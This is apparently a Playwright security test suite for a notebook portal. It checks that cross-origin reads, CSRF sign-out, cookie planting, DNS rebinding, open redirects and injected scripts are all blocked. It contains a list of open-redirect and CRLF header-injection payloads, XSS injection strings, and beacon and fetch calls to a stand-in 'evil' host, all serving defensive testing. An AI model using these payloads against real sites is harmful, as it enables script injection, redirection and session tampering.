"""Pages of other origins in a real Chromium, against a running portal and a real notebook."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any, cast
from urllib.parse import quote

import pytest

from lib.auth import COOKIE
from tests.chromium import REBOUND, fresh_context, host_cookie
from tests.crowd import NAVIGATE, Crowd, Somebody, at_notebook

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

pytestmark = [pytest.mark.browser, pytest.mark.slow]

#: What a page can try on another origin; each says "failed" or what it got.
_REACH = """async ([origin, api, socket]) => {
  const got = {};
  for (const mode of ['cors', 'no-cors'])
    got[mode] = await fetch(origin + api, {mode, credentials: 'include'})
      .then((answer) => answer.type === 'opaque' ? 'opaque' : answer.text(), () => 'failed');
  got.ws = await new Promise((resolve) => {
    const ws = new WebSocket(origin.replace('http', 'ws') + socket);
    ws.onopen = () => resolve('open');
    ws.onerror = () => resolve('failed');
  });
  for (const [kind, from] of [['img', 'src'], ['script', 'src'], ['link', 'href']])
    got[kind] = await new Promise((resolve) => {
      const element = document.createElement(kind);
      element.rel = 'stylesheet';
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('failed');
      element[from] = origin + api;
      document.head.append(element);
    });
  for (const [method, path] of [['POST', '/signout'], ['POST', '/api/runs'],
                                ['POST', '/api/contents']])
    await fetch(origin + path, {method, mode: 'no-cors', credentials: 'include', body: '{}'})
      .catch(() => null);
  return got;
}"""
_FRAME = """(address) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.onload = () => resolve();
  frame.src = address;
  document.body.append(frame);
})"""
#: Severed: the window that was opened looks closed to who opened it.
_OPEN = """([address, limit]) => new Promise((resolve) => {
  const opened = window.open(address);
  const look = () => {
    try { if (opened.closed) return resolve('severed'); opened.document.title; }
    catch { /* another origin, but still connected */ }
    if (Date.now() > until) return resolve('connected'); setTimeout(look, 50);
  };
  const until = Date.now() + limit;
  setTimeout(look, 50);
})"""
#: The origin to which the portal would go on after signing in.
_LEADS = """(links) => links.map((link) =>
  new URL(new URL(link).searchParams.get('next'), link).origin)"""


class Evil:
    """A server of somebody else on this computer."""

    def __init__(self) -> None:
        outer = self
        self.asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                body = b"<!doctype html><title>evil</title><body><h1>evil</h1></body>"
                kind = "text/html"
                if self.path.endswith(".js"):
                    body, kind = b"window.evilRan = true", "text/javascript"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@pytest.fixture(scope="module")
def evil() -> Iterator[Evil]:
    it = Evil()
    thread = threading.Thread(target=it.server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield it
    it.server.shutdown()
    it.server.server_close()


@contextmanager
def signed_in(there: Crowd, browser: Browser) -> Iterator[tuple[BrowserContext, Somebody]]:
    who = there.sign_in()
    with fresh_context(browser) as context:
        context.add_cookies([cast(Any, host_cookie(COOKIE, who.secret))])
        yield context, who


def without_static_files(page: Page) -> None:
    """JupyterLab's own scripts, which compute for seconds, do not load: tests run theirs. The names
    of JupyterLab's have a digest; what a test asks for has none, and is not held back here."""
    driven = page.context.new_cdp_session(page)
    driven.send("Network.enable")
    driven.send("Network.setBlockedURLs", {"urls": ["*/static/*.*.js*"]})


def lab(there: Crowd, context: BrowserContext) -> Page:
    """A tab in Alice's notebook. Its scripts are her code: here, an attacker's."""
    page = context.new_page()
    without_static_files(page)
    page.goto(f"{there.origin}/open/{there.notebook.id}?next=/lab", wait_until="commit")
    assert page.url == f"{there.notebook.origin}/lab"
    page.wait_for_load_state("domcontentloaded")
    return page


def framed(page: Page, address: str) -> str:
    """Where a frame ends that should show this address."""
    page.evaluate(_FRAME, address)
    frame = page.frames[-1]
    while frame.url in ("", "about:blank"):
        page.wait_for_timeout(50)
    ended = frame.url
    page.evaluate("document.querySelector('iframe').remove()")
    return ended


def opened(page: Page, address: str, limit_ms: int = 300_000) -> str:
    """What becomes of a window that the page opens; it is closed at once."""
    seen: str = page.evaluate(_OPEN, [address, limit_ms])
    for window in page.context.pages:
        if window != page:
            window.close()
    return seen


def everything_failed(got: dict[str, str]) -> bool:
    return set(got.values()) == {"failed"}


@pytest.mark.parametrize("name", ["evil.localhost", "localhost", "127.0.0.1"])
def test_a_foreign_page_reaches_neither_portal_nor_notebook(
    there: Crowd, browser: Browser, evil: Evil, name: str
) -> None:
    book = there.notebook
    with signed_in(there, browser) as (context, who):
        lab(there, context).close()  # the notebook's cookie is in the jar as well
        page = context.new_page()
        page.goto(f"http://{name}:{evil.port}/")
        assert everything_failed(
            page.evaluate(_REACH, [there.origin, "/api/me", "/_stcore/stream"])
        )
        assert everything_failed(
            page.evaluate(_REACH, [book.origin, "/api/status", "/api/events/subscribe"])
        )
        for address in (
            f"{there.origin}/work", f"{there.origin}/api/me", f"{there.origin}/open/{book.id}",
            f"{there.origin}/signin", f"{book.origin}/api/status", f"{book.origin}/lab",
        ):  # fmt: skip
            assert framed(page, address).startswith("chrome-error:"), address
        for address in (f"{there.origin}/work", f"{book.origin}/lab"):
            assert opened(page, address) == "severed"
        own = f"http://evil.localhost:{evil.port}/"  # what the two ask can be done at all
        assert framed(page, own) == own
        assert opened(page, f"http://{name}:{evil.port}/2", 1000) == "connected"
        page.evaluate(
            "(to) => { document.body.innerHTML = `<form method=post action='${to}'></form>`;"
            "document.forms[0].submit(); }",
            f"{there.origin}/signout",
        )
        page.wait_for_selector("text=A page of another site may not do this")
        assert there.auth.logins.by_id(who.login) is not None, "still signed in"
        page.goto(f"{there.origin}/healthz")  # a page of the portal's own origin may
        got = page.evaluate(
            "fetch('/api/me').then((answer) => answer.json()).then((me) => me.name)"
        )
        assert got == "Alice"
        assert (
            page.evaluate("fetch('/signout', {method: 'POST'}).then((answer) => answer.url)")
            == f"{there.origin}/signin?why=out"
        )
        time.sleep(0.3)  # so long this process goes by what it knew
        assert there.auth.logins.by_id(who.login) is None


def test_a_notebook_s_page_reaches_only_itself(there: Crowd, browser: Browser) -> None:
    book = there.notebook
    with signed_in(there, browser) as (context, who):
        page = lab(there, context)
        assert everything_failed(
            page.evaluate(_REACH, [there.origin, "/api/me", "/_stcore/stream"])
        )
        assert framed(page, f"{there.origin}/work").startswith("chrome-error:")
        assert opened(page, f"{there.origin}/work") == "severed"
        assert there.auth.logins.by_id(who.login) is not None
        assert "started" in page.evaluate("fetch('/api/status').then((answer) => answer.text())")
        for script in ("/static/lab/x.js", "/files/sw.js", "/service-worker.js", "/_portal/sw.js"):
            said = page.evaluate(
                "(path) => navigator.serviceWorker.register(path)"
                ".then(() => 'installed', () => 'refused')",
                script,
            )
            assert said == "refused", script
        assert page.evaluate("window.opener") is None
        assert book.id.replace("-", "") in page.url


def test_a_notebook_plants_no_cookie_for_the_portal(there: Crowd, browser: Browser) -> None:
    with signed_in(there, browser) as (context, who):
        page = lab(there, context)
        page.evaluate(
            """(name) => {
              const flags = ['', '; Secure', '; Domain=localhost', '; Domain=localhost; Secure',
                '; Domain=.localhost; Secure; SameSite=None', '; Domain=localhost; Path=/api'];
              for (const flag of flags)
                for (const planted of [name, 'sb', '_streamlit_user', '_streamlit_xsrf',
                                       '__Host-sb-signin'])
                  document.cookie = `${planted}=planted; Path=/${flag}`;
              for (let i = 0; i < 400; i++)
                document.cookie = `bomb${i}=${'x'.repeat(3000)}; Domain=localhost; Path=/`;
            }""",
            COOKIE,
        )
        at_portal = {c["name"]: c["value"] for c in context.cookies(there.origin)}
        assert at_portal == {COOKIE: who.secret}
        page.goto(f"{there.origin}/api/me")
        assert "Alice" in page.content()
        # A page of another port shares the portal's jar: it cannot replace our cookie either.
    with fresh_context(browser) as context:
        page = context.new_page()
        page.goto(f"{there.origin}/signin")
        page.context.add_cookies([cast(Any, host_cookie(COOKIE, "planted"))])
        answer = page.goto(f"{there.origin}/work")
        assert answer is not None
        assert answer.status == 401
        page.goto(there.auth.links.new(there.origin))
        (kept,) = [c["value"] for c in context.cookies(there.origin) if c["name"] == COOKIE]
        assert kept != "planted"
        assert context.request.get(f"{there.origin}/api/me").ok


REFUSED = (400, 403, 404, 421)


def test_a_rebound_name_gets_nothing(there: Crowd, browser: Browser) -> None:
    """The name resolves to this computer, as an attacker's does after DNS rebinding."""
    book = there.notebook
    port = book.origin.rpartition(":")[2]
    for path in ("/api/status", "/lab", "/_portal/enter"):
        asked_as = f"http://{REBOUND}:{port}{path}"
        assert at_notebook(asked_as, cookie=book.cookie, **NAVIGATE).status_code in REFUSED
    assert at_notebook(f"{book.origin}/api/status", cookie=book.cookie).status_code == 200
    with signed_in(there, browser) as (context, _):
        page = context.new_page()
        for path in ("/api/me", "/healthz", "/signin", "/_stcore/health", "/"):
            answer = page.goto(f"http://{REBOUND}:{there.running.port}{path}")
            assert answer is not None
            assert answer.status in REFUSED, path
            assert "Alice" not in page.content()
        for asked in ("fetch('/api/me')", "fetch('/signout', {method: 'POST'})"):
            assert page.evaluate(f"{asked}.then((answer) => answer.status)") in REFUSED
        answer = page.goto(f"{there.origin}/api/me")
        assert answer is not None
        assert answer.ok


def nexts(evil: Evil) -> list[str]:
    place = f"evil.localhost:{evil.port}/x"
    return [
        f"//{place}", f"http://{place}", f"/\\{place}", f"\\\\{place}", f"/\t/{place}",
        f"///{place}", f"/%09/{place}", f"http:{place}", f"@{place}", f"/./\\/{place}",
        "javascript:alert(1)", f"/%5c{place}", f"/..//{place}", "/\r\nLocation: http://evil",
    ]  # fmt: skip


def test_no_next_leads_elsewhere(there: Crowd, browser: Browser, evil: Evil) -> None:
    evil.asked.clear()
    book = there.notebook
    with signed_in(there, browser) as (context, _):
        page = context.new_page()
        without_static_files(page)
        for onward in nexts(evil):
            page.goto(f"{there.origin}/signin?next={quote(onward, safe='')}")
            links = page.eval_on_selector_all("a", "all => all.map((a) => a.href)")
            assert all(link.startswith(f"{there.origin}/signin/test?next=/") for link in links)
            assert set(page.evaluate(_LEADS, links)) == {there.origin}, onward
            for address in (f"{there.origin}/open/{book.id}", f"{book.origin}/_portal/entered"):
                page.goto(f"{address}?next={quote(onward, safe='')}", wait_until="commit")
                assert page.url.startswith(f"{book.origin}/"), onward
        page.goto(f"{there.origin}/open/{book.id}?next=/api/status")
        assert page.url == f"{book.origin}/api/status"
    assert evil.asked == []


def test_the_page_s_policy_stops_what_got_into_it(
    there: Crowd, browser: Browser, evil: Evil
) -> None:
    evil.asked.clear()
    with signed_in(there, browser) as (context, _):
        page = context.new_page()
        page.goto(f"{there.origin}/work")
        page.locator(".sb-heading h1").wait_for()
        page.evaluate(
            """(evil) => {
              const add = (tag, more) => document.body.append(
                Object.assign(document.createElement(tag), more));
              add('script', {textContent: 'window.owned = "inline"'});
              add('script', {src: evil + '/x.js'});
              add('script', {src: 'data:text/javascript,window.owned="data"'});
              add('div', {innerHTML: '<img src=x onerror="window.owned=1">' +
                '<svg onload="window.owned=2"></svg><a id=j href="javascript:window.owned=3">j</a>'
                + '<iframe srcdoc="<script>parent.owned=4</script>"></iframe>'
                + '<object data="' + evil + '/o"></object><embed src="' + evil + '/e">'
                + '<iframe src="' + evil + '/f"></iframe><base href="' + evil + '/">'
                + '<link rel=stylesheet href="' + evil + '/s"><img src="' + evil + '/i">'
                + '<form id=f method=post action="' + evil + '/p"></form>'});
              document.querySelector('#j').click();
              document.querySelector('#f').submit();
              fetch(evil + '/c').catch(() => null);
              navigator.sendBeacon(evil + '/b', 'x');
              new WebSocket(evil.replace('http', 'ws') + '/w');
            }""",
            f"http://evil.localhost:{evil.port}",
        )
        page.wait_for_timeout(1000)
        assert page.evaluate("[window.owned, window.evilRan]") == [None, None]
        assert evil.asked == []
        assert page.url == f"{there.origin}/work"
        allowed = """(async () => {
          const own = new Blob(['export const own = 42'], {type: 'text/javascript'});
          return (await import(URL.createObjectURL(own))).own; })()"""
        assert page.evaluate(allowed) == 42


def test_a_notebook_shown_in_the_portal_cannot_lead_the_page_away(
    there: Crowd, browser: Browser, evil: Evil
) -> None:
    evil.asked.clear()
    assert there.notebook.id
    with signed_in(there, browser) as (context, _):
        page = context.new_page()
        page.goto(f"{there.origin}/work")
        page.get_by_role("button", name="Open here").first.click()
        inside = page.frame_locator("iframe[src^='/open/']")
        inside.locator("body").wait_for(state="attached")
        (frame,) = [f for f in page.frames if f.url.startswith(there.notebook.origin)]
        moved = frame.evaluate(
            "(to) => { try { top.location.href = to; return 'tried'; }"
            " catch { return 'refused'; } }",
            f"http://evil.localhost:{evil.port}/",
        )
        read = frame.evaluate(
            "() => { try { return parent.document.title; } catch { return 'refused'; } }"
        )
        page.wait_for_timeout(700)
        assert moved in ("tried", "refused")
        assert read == "refused"
        assert page.url == f"{there.origin}/work"
        assert evil.asked == []
        assert frame.evaluate("fetch('/api/status').then((answer) => answer.ok)")
